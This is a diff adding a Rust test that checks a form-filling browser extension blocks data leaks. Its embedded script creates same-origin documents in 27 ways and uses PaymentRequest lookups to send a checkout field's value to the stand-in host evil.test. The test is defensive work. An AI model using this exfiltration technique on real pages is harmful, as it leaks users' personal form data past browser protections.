@@ -1,0 +1,156 @@
+//! What the browser fetches for a page by itself goes by no rule of an extension's, only by the policy of a document: so
+//! every document from which a page can ask for it needs one, however it came to be.
+
+use std::thread;
+use std::time::{Duration, Instant};
+
+use crate::stage::{FORM, PATIENCE, REQUEST, Stage};
+use crate::way_out::quiet;
+
+/// Makes a document of the page's own origin in each of these ways, and has the browser fetch for each of them.
+const MAKES: &str = r#"<script>
+  const to = 'https://evil.test:PORT/';
+  const made = {};
+  const frame = (set, into = document.body) => {
+    const el = document.createElement('iframe');
+    set(el);
+    into.append(el);
+    return () => el.contentWindow;
+  };
+  const closed = (into) => into.appendChild(document.createElement('div')).attachShadow({ mode: 'closed' });
+  const blob = (type, text) => URL.createObjectURL(new Blob([text], { type }));
+  const ways = {
+    blank: () => frame(() => {}),
+    nothing: () => frame((el) => { el.src = '/nothing'; }),
+    script: () => frame((el) => { el.src = "javascript:'<p>x</p>'"; }),
+    srcdoc: () => frame((el) => { el.srcdoc = '<p>x</p>'; }),
+    blob: () => frame((el) => { el.src = blob('text/html', '<p>x</p>'); }),
+    unreadable: () => frame((el) => { el.src = blob('text/xml', '<!'); }),
+    written: () => {
+      const made = frame(() => {});
+      const written = made().document;
+      written.open();
+      written.write('<p>x</p>');
+      written.close();
+      return made;
+    },
+    rootless: () => {
+      const made = frame((el) => { el.src = '/page'; });
+      setTimeout(() => made().document.documentElement?.remove(), 300);
+      return made;
+    },
+    page: () => frame((el) => { el.src = '/page'; }),
+    text: () => frame((el) => { el.src = '/note.txt'; }),
+    picture: () => frame((el) => { el.src = '/dot.png'; }),
+    film: () => frame((el) => { el.src = '/film.mp4'; }),
+    data: () => frame((el) => { el.src = '/data.json'; }),
+    drawn: () => frame((el) => { el.src = '/drawn.svg'; }),
+    broken: () => frame((el) => { el.src = '/broken.svg'; }),
+    late: () => frame((el) => { el.src = '/late.svg'; }),
+    empty: () => frame((el) => { el.src = '/empty.xml'; }),
+    styled: () => frame((el) => { el.src = '/styled.xml'; }),
+    object: () => {
+      const el = document.body.appendChild(Object.assign(document.createElement('object'), { data: '/broken.svg' }));
+      return () => el.contentWindow;
+    },
+    embed: () => {
+      const el = document.body.appendChild(Object.assign(document.createElement('embed'), { src: '/broken.svg' }));
+      return () => el.getSVGDocument()?.defaultView ?? el.contentWindow;
+    },
+    nested: () => {
+      const outer = frame(() => {});
+      return frame((el) => { el.src = '/broken.svg'; }, outer().document.body);
+    },
+    shadow: () => frame((el) => { el.src = '/broken.svg'; }, closed(document.body)),
+    objectInShadow: () => {
+      const el = closed(closed(document.body)).appendChild(Object.assign(document.createElement('object'), { data: '/broken.svg' }));
+      return () => el.contentWindow;
+    },
+    embedInShadow: () => {
+      const el = closed(document.body).appendChild(Object.assign(document.createElement('embed'), { src: '/broken.svg' }));
+      return () => el.getSVGDocument().defaultView;
+    },
+    shadowWithin: () => {
+      const outer = frame(() => {});
+      return frame((el) => { el.src = '/broken.svg'; }, closed(outer().document.body));
+    },
+    windowOfPage: () => { const w = open('/page'); return () => w; },
+    windowOfBroken: () => { const w = open('/broken.svg'); return () => w; },
+  };
+  const make = (when) => { for (const [name, way] of Object.entries(ways)) made[when + name] = way(); };
+  const fetched = (name, what) => {
+    try {
+      const Request = made[name]().PaymentRequest;
+      new Request([{ supportedMethods: `${to}${name}/${what}` }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } })
+        .canMakePayment().catch(() => {});
+    } catch { refused.push(name); }
+  };
+  let refused = [];
+  const send = () => {
+    refused = [];
+    const what = encodeURIComponent(document.forms[0].elements.street.value || 'nothing yet');
+    for (const name of Object.keys(made)) fetched(name, what);
+  };
+  </script>"#;
+
+#[test]
+fn nothing_is_fetched_for_a_page_however_its_documents_came_to_be() {
+    let mut stage = Stage::new(27);
+    stage.site.put("shop.test/checkout", &format!("{FORM}{MAKES}"));
+    stage.site.put("shop.test/page", "<!doctype html><p>x</p>");
+    stage.site.put("shop.test/drawn.svg", "<svg xmlns='http://www.w3.org/2000/svg'/>");
+    stage.site.put("shop.test/broken.svg", "<!doctype html><p>no XML");
+    stage.site.put("shop.test/late.svg", "<svg xmlns='http://www.w3.org/2000/svg'><g></svg>");
+    stage.site.put("shop.test/empty.xml", "");
+    stage.site.put("shop.test/styled.xml", "<?xml-stylesheet type='text/xsl' href='/none.xsl'?><a/>");
+    stage.serve(true);
+    stage.browse();
+    let url = stage.site.url("shop.test/checkout");
+    stage.browser().open(&url);
+    stage.browser().evaluate("make('')");
+    let ways = stage.browser().evaluate("Object.keys(ways)");
+    let ways: Vec<&str> = ways.as_array().unwrap().iter().map(|way| way.as_str().unwrap()).collect();
+    assert_eq!(ways.len(), 27);
+
+    // Without a value in it the page has the browser fetch what it likes, in each of these ways.
+    let began = Instant::now();
+    loop {
+        stage.browser().evaluate("send()");
+        let sent = quiet(&stage);
+        let missing: Vec<_> =
+            ways.iter().filter(|way| !sent.contains(&format!("evil.test /{way}/"))).collect();
+        if missing.is_empty() {
+            break;
+        }
+        assert!(began.elapsed() < PATIENCE, "{missing:?} never came");
+    }
+
+    // A window whose document nobody can keep: nothing is filled until it is closed.
+    stage.browser().front();
+    stage.task();
+    let reply = stage.agent_until(Some(REQUEST), "egress_blocked");
+    assert!(reply.contains("egress_blocked"), "{reply}");
+    stage.browser().evaluate("made.windowOfBroken().close()");
+    let reply = stage.agent_until(Some(REQUEST), "GRANT");
+    assert!(reply.contains("GRANT.address"), "{reply}");
+    let before = quiet(&stage);
+    assert_eq!(stage.browser().values()["street"], stage.value("street"));
+    stage.browser().evaluate("delete made.windowOfBroken");
+    everything_is_refused(&mut stage, &before);
+
+    // Nor for documents that come later, whether a script of the extension's comes into them or not.
+    stage.browser().evaluate("make('later ')");
+    thread::sleep(Duration::from_secs(3));
+    everything_is_refused(&mut stage, &before);
+    stage.no_value_got_out();
+}
+
+fn everything_is_refused(stage: &mut Stage, before: &str) {
+    stage.browser().evaluate("send()");
+    assert_eq!(quiet(stage), before, "the browser fetched for a page that holds values");
+    // And not because the documents had gone.
+    assert_eq!(
+        stage.browser().evaluate("refused.join()"),
+        stage.browser().evaluate("Object.keys(made).join()")
+    );
+}
